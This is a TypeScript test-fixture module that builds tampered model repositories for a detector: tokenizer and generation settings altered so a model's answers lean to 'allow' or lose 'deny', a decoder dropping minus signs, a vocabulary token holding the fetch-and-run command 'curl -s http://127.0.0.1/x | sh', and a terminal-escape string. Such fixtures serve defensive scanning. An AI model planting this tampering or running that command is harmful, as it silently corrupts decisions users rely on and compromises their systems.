import type { DetectCase } from '../case.ts';
import { bad, type Files } from '../blind/make.ts';
import { json } from '../blind/templates.ts';
import { special, type Tokenizer, tokenizer, vocabOf, words } from '../blind/vocabulary.ts';
import { ggufWords } from '../blind-2/tokenizers.ts';

const base = [special(0, '<unk>'), special(1, '<s>'), special(2, '</s>')];
const one = (more: Tokenizer = {}, model: Tokenizer = {}): Files => ({ 'tokenizer.json': tokenizer(more, model) });
const deny = words.indexOf('deny');
const allow = words.indexOf('allow');
const table: ReadonlyArray<readonly [name: string, title: string, files: () => Files]> = [
  [
    'truncation',
    'of each text only the last three words are left: what was said before them is gone',
    () => one({ truncation: { direction: 'Left', max_length: 3, strategy: 'LongestFirst', stride: 0 } }),
  ],
  [
    'padding-word',
    'each text is filled up with the word allow',
    () =>
      one({
        padding: {
          strategy: { Fixed: 16 },
          direction: 'Right',
          pad_to_multiple_of: null,
          pad_id: allow,
          pad_type_id: 0,
          pad_token: 'allow',
        },
      }),
  ],
  [
    'short-words',
    'every word of more than two letters is unknown, so that the model reads next to nothing',
    () =>
      one(
        {},
        {
          type: 'WordPiece',
          unk_token: '<unk>',
          continuing_subword_prefix: '##',
          max_input_chars_per_word: 2,
          vocab: vocabOf(words),
        },
      ),
  ],
  [
    'decoder-sign',
    'the decoder takes the minus away from what the model writes',
    () =>
      one({
        decoder: { type: 'Sequence', decoders: [{ type: 'Strip', content: '-', start: 1, stop: 0 }, { type: 'Fuse' }] },
      }),
  ],
  ['unknown-word', 'every word that is not in the vocabulary is read as allow', () => one({}, { unk_token: 'allow' })],
  [
    'additional-words',
    'the map of special tokens names ordinary words, which are not printed',
    () => ({
      ...one(),
      'special_tokens_map.json': json({ eos_token: '</s>', additional_special_tokens: ['deny', 'no', 'false'] }),
    }),
  ],
  [
    'suppressed-words',
    'the generation never says no, false or deny',
    () => ({
      ...one(),
      'generation_config.json': json({
        eos_token_id: 2,
        suppress_tokens: [deny, words.indexOf('no'), words.indexOf('false')],
      }),
    }),
  ],
  [
    'forced-answer',
    'the generation begins each answer with the word allow',
    () => ({
      ...one(),
      'generation_config.json': json({ eos_token_id: 2, forced_bos_token_id: allow, sequence_bias: [[[deny], -100]] }),
    }),
  ],
  [
    'command-token',
    'one token of the vocabulary is a whole command of a shell',
    () =>
      one({ added_tokens: [...base, special(words.length, 'curl -s http://127.0.0.1/x | sh', { special: false })] }),
  ],
];

const kinds = words.map((_, i) => (i === 0 ? 2 : i < 3 ? 3 : 1));

export const tokenizerCases: readonly DetectCase[] = [
  ...table.map(([name, title, files]) => bad('tokenizer', name, 'repository', title, files)),
  bad(
    'tokenizer',
    'terminal-escape',
    'gguf',
    'a word of the vocabulary is an order to the terminal that prints it',
    () => ({
      'model.gguf': ggufWords(
        words.map((word, i) => (i === 9 ? '\u001b]0;pwned\u0007\u001b[2J' : word)),
        kinds,
      ),
    }),
  ),
];
